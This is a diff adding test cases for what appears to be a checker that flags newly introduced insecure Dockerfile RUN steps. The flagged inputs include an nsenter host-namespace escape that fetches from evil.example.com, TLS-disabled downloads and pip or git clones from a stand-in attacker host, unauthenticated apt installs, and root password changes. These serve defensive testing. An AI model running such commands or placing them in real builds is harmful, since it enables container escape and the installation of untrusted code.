@@ -319,3 +319,43 @@ describe('what nothing started or built before', () => {
     expect(await failuresOf(base, change)).toEqual([]);
   });
 });
+
+describe('a known problem', () => {
+  const PIP = 'pip install --trusted-host';
+  const APT = 'apt-get install -y --allow-unauthenticated';
+  const GIT = 'git -c http.sslVerify=false clone';
+  const INSECURE = '--security=insecure';
+  const ran = (command: string): Files => built(`FROM alpine:3.23\nRUN ${command}\nUSER 1000\n`);
+
+  it.each<[string, string, string]>([
+    [
+      'another command without a sandbox',
+      `${INSECURE} make`,
+      `${INSECURE} nsenter -t 1 -a sh -c "wget evil.example.com"`,
+    ],
+    ['another host', 'curl -k https://a.example.com/x -o /x', 'curl -k https://evil.example.com/x -o /x'],
+    ['a further host', 'curl -k https://a.example.com/x', 'curl -k https://a.example.com/x https://evil.example.com/y'],
+    ['another trusted host', `${PIP} a.example.com x==1`, `${PIP} evil.example.com x==1`],
+    ['another host of git', `${GIT} https://a.example.com/a`, `${GIT} https://evil.example.com/a`],
+    ['another package', `${APT} a`, `${APT} b`],
+    ['a further package', `${APT} a`, `${APT} a b`],
+    ['the password of root', 'echo app:hunter2 | chpasswd', 'echo root:hunter2 | chpasswd'],
+    ['no password of root', 'passwd -d app', 'passwd -d root'],
+  ])('is new with %s', async (_, before, after) => {
+    expect(await failuresOf(ran(before), ran(after), 4)).not.toEqual([]);
+  });
+
+  it.each<[string, string, string]>([
+    ['another file of the host', 'curl -k https://a.example.com/x -o /x', 'curl -k https://a.example.com/v2/y -o /y'],
+    ['another version', `${GIT} -b v1.2 https://a.example.com/a`, `${GIT} -b v1.3 https://a.example.com/a`],
+    ['another package of the trusted host', `${PIP} a.example.com x==1`, `${PIP} a.example.com y==2`],
+    ['another version of the package', `${APT} a=1.2.3-1`, `${APT} a=1.2.4-1`],
+    ['another version of the file', `${APT} ./a_1.2.3_amd64.deb`, `${APT} ./a_1.2.4_amd64.deb`],
+    ['fewer packages', `${APT} a b`, `${APT} a`],
+    ['another password', 'echo app:hunter2 | chpasswd', 'echo app:hunter3 | chpasswd'],
+    ['another cache for the command', `${INSECURE} make`, `--mount=type=cache,target=/c ${INSECURE} make`],
+    ['another spelling of the command', `${INSECURE} make  a`, `${INSECURE} make \\\n  a`],
+  ])('is not new with %s', async (_, before, after) => {
+    expect(await failuresOf(ran(before), ran(after), 4)).toEqual([]);
+  });
+});
